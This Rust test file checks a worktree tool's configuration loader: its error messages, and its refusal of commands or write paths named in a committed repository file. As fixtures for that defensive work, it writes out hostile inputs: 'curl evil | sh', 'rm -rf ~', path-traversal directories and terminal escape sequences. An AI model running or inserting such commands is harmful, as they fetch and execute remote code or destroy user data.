//! Keys that are unknown, values that do not fit, and what the errors say.

use std::{ffi::OsString, os::unix::ffi::OsStringExt};

use super::Fixture;
use crate::config::{ConfigError, Origin, Warning, load};

#[test]
fn an_unknown_key_is_an_error_where_one_person_wrote_it() {
    let text = "\n[pool]\nmax_worktree = 3\n";
    assert_eq!(
        Fixture::new().user(text).message(),
        "`ROOT/home/config.toml` line 3: unknown key `pool.max_worktree`; did you mean `pool.max_worktrees`?"
    );
    assert_eq!(
        Fixture::new().private(text).message(),
        "`ROOT/repo/.git/windrow/config.toml` line 3: unknown key `pool.max_worktree`; did you mean \
         `pool.max_worktrees`?"
    );
    assert_eq!(
        Fixture::new().environment("WINDROW_CONFIG__POOL__TLL", "1h").message(),
        "environment variable `WINDROW_CONFIG__POOL__TLL`: unknown key `pool.tll`; did you mean `pool.ttl`?"
    );
    assert_eq!(
        Fixture::new().environment("WINDROW_CONFIG__pool__ttl", "1h").message(),
        "environment variable `WINDROW_CONFIG__pool__ttl`: unknown key `pool.ttl`; did you mean `pool.ttl`?"
    );
    assert_eq!(
        Fixture::new().flag("telemetry.host", "x").message(),
        "flag `--config telemetry.host`: unknown key `telemetry.host`"
    );
}

#[test]
fn an_unknown_key_is_a_warning_in_the_committed_file() {
    let fixture =
        Fixture::new().repository("new = 1\n[pool]\ntl = 'x'\nttl = '2m'\n[future]\na = 1\nb = 2\n");
    let loaded = fixture.load().unwrap();
    assert_eq!(loaded.settings.pool.ttl.as_secs(), 120);
    let told: Vec<_> = loaded.warnings.iter().map(|warning| fixture.readable(&warning.to_string())).collect();
    assert_eq!(
        told,
        [
            "`ROOT/repo/windrow.toml` line 1: unknown key `new` has no effect",
            "`ROOT/repo/windrow.toml` line 3: unknown key `pool.tl` has no effect; did you mean `pool.ttl`?",
            "`ROOT/repo/windrow.toml` line 5: unknown key `future` has no effect",
        ]
    );
    let Warning::UnknownKey { place, .. } = &loaded.warnings[0];
    assert_eq!(place.origin, Origin::Repository(fixture.repository_file()));
}

#[test]
fn a_value_that_does_not_fit_says_what_would() {
    let cases = [
        ("[discovery]\ndepth = '1'", "line 2: `discovery.depth` must be a whole number from 0, not `1`"),
        (
            "discovery.depth = 4294967296",
            "line 1: `discovery.depth` must be a whole number from 0, not `4294967296`",
        ),
        (
            "pool.max_worktrees = 0",
            "line 1: `pool.max_worktrees` must be a whole number from 1, or \"unlimited\", not `0`",
        ),
        (
            "pool.min_free = -1",
            "line 1: `pool.min_free` must be a size such as 4096, \"512MiB\" or \"2GiB\", not an integer out of range",
        ),
        (
            "branch.delete = true",
            "line 1: `branch.delete` must be one of \"empty\", \"landed\", \"pushed\", \"never\", not a boolean",
        ),
        (
            "carry.include = '.env'",
            "line 1: `carry.include` must be a list of patterns such as [\".env\", \"*.local\"], not `.env`",
        ),
        (
            "carry.include = ['.env', 7]",
            "line 1: `carry.include` must be a list of patterns such as [\".env\", \"*.local\"], not a list with `7`",
        ),
        ("pool = 3", "line 1: `pool` must be a table, not an integer"),
        ("min_version = 1", "line 1: `min_version` must be a version such as \"1.2\", not `1`"),
    ];
    for (text, told) in cases {
        let told = format!("`ROOT/repo/windrow.toml` {told}");
        assert_eq!(Fixture::new().repository(text).message(), told, "{text}");
    }
}

#[test]
fn values_out_of_range_or_shape_are_refused() {
    for (key, text) in [
        ("pool.keeper", "yes"),
        ("pool.keeper", "'true'"),
        ("pool.ttl", "soon"),
        ("pool.ttl", ""),
        ("pool.ttl", "36501d"),
        ("pool.min_free", "9223372036854775808"),
        ("pool.directory", "~/w/{name}"),
        ("pool.directory", "{repo}/../w/{name}"),
        ("branch.template", "fixed"),
        ("run.log", "Always"),
        ("carry.include", ""),
        ("carry.include", "[unclosed"),
        ("carry.context", "../elsewhere"),
        ("carry.context", "[\"/etc\"]"),
        ("submodules.populate", "true"),
        ("pool.ttl", "'unclosed"),
    ] {
        let error = Fixture::new().flag(key, text).load().unwrap_err();
        assert!(matches!(&error, ConfigError::WrongValue { key: wrong, .. } if wrong == key), "{error}");
    }
}

#[test]
fn a_file_may_ask_for_a_newer_program() {
    let text = "min_version = '1.3'\n[pool]\nttl = { from = 'the future' }\n";
    assert_eq!(
        Fixture::new().repository(text).message(),
        "`ROOT/repo/windrow.toml` line 1 needs windrow 1.3 or newer; this is 1.2.3"
    );
    for version in ["1.2.3", "1.2", "0.9"] {
        Fixture::new().repository(&format!("min_version = '{version}'")).load().unwrap();
    }
    assert_eq!(
        Fixture::new().flag("min_version", "1").message(),
        "flag `--config min_version`: `min_version` can only be set in a file"
    );
    let error = load(&Fixture::new().sources, "newest").unwrap_err();
    assert_eq!(error.to_string(), "`newest` is not a version such as 1.2.3");
}

#[test]
fn a_committed_file_names_no_command() {
    let committed = Fixture::new().repository("[land]\nverify = \"curl evil | sh\"\n");
    assert!(committed.message().contains("`land.verify` is refused"), "{}", committed.message());
    let none = Fixture::new().user("[land]\nverify = \"make\"\n").private("[land]\nverify = \" \"\n");
    assert_eq!(none.load().unwrap().settings.land.verify, None);
}

#[test]
fn a_committed_file_does_not_choose_where_to_write() {
    let told = "`ROOT/repo/windrow.toml` line 1: `pool.directory` = `/tmp/{name}` is refused: a committed file may \
                only name a place beside the repository, `{repo}` once and first, directly followed by a suffix, with \
                `{name}`, without `..` and `.git`, such as `{repo}.windrow/{name}`";
    let absolute = "pool.directory = '/tmp/{name}'";
    assert_eq!(Fixture::new().repository(absolute).message(), told);
    for directory in ["{repo}/.git/{name}", "{repo}.w/../../{name}"] {
        let error = Fixture::new().repository(&format!("pool.directory = '{directory}'")).load().unwrap_err();
        assert!(matches!(error, ConfigError::Steers { .. }), "{error}");
    }
    let beside = Fixture::new().repository("pool.directory = '{repo}-trees/{name}'").load().unwrap();
    assert_eq!(beside.settings.pool.directory, "{repo}-trees/{name}");
    let private = Fixture::new().private(absolute).load().unwrap();
    assert_eq!(private.settings.pool.directory, "/tmp/{name}");
}

#[test]
fn bad_syntax_is_told_with_its_line() {
    let fixture = Fixture::new().user("[pool]\nttl = \n");
    let message = fixture.message();
    assert!(message.starts_with("`ROOT/home/config.toml` line 2 is not TOML: "), "{message}");
    let twice = Fixture::new().user("[pool]\nttl = 1\nttl = 2\n").message();
    assert!(twice.starts_with("`ROOT/home/config.toml` line 3 is not TOML: "), "{twice}");
}

#[test]
fn hostile_nesting_is_an_error_and_no_crash() {
    for text in [
        format!("a = {}", "[".repeat(500_000)),
        format!("a = {}", "{b=".repeat(300_000)),
        format!("a{} = 1", ".a".repeat(500_000)),
        format!("[a{}]", ".a".repeat(500_000)),
    ] {
        let error = Fixture::new().repository(&text).load().unwrap_err();
        assert!(matches!(error, ConfigError::Syntax { .. }), "{error}");
    }
}

#[test]
fn messages_carry_no_terminal_sequences_and_do_not_grow() {
    let key = format!("\"\\u001b[31m{}\" = 1", "x".repeat(500));
    let message = Fixture::new().user(&key).message();
    assert!(!message.contains('\u{1b}') && message.len() < 300, "{message}");
    let value = format!("pool.ttl = \"\\u001b[31m{}\"", "x".repeat(500));
    let message = Fixture::new().user(&value).message();
    assert!(!message.contains('\u{1b}') && message.len() < 300, "{message}");
}

#[test]
fn variables_that_are_not_text_are_told() {
    let bytes = || OsString::from_vec(vec![b'1', 0xff]);
    let fixture = Fixture::new().environment("WINDROW_CONFIG__RUN__KEEP", bytes());
    assert_eq!(fixture.message(), "environment variable `WINDROW_CONFIG__RUN__KEEP` is not UTF-8 text");
    Fixture::new().environment("OTHER", bytes()).load().unwrap();
    let mut name = OsString::from("WINDROW_CONFIG__");
    name.push(bytes());
    let error = Fixture::new().environment(name, "1").load().unwrap_err();
    assert!(matches!(error, ConfigError::UnknownKey { .. }), "{error}");
}

#[test]
fn h57_a_committed_file_does_not_say_what_is_run() {
    for line in ["push.pr_command = 'rm -rf ~'", "push.hooks = true"] {
        let error = Fixture::new().repository(line).load().unwrap_err();
        assert!(matches!(error, ConfigError::CommittedCommand { .. }), "{error}");
        Fixture::new().private(line).load().unwrap();
    }
}
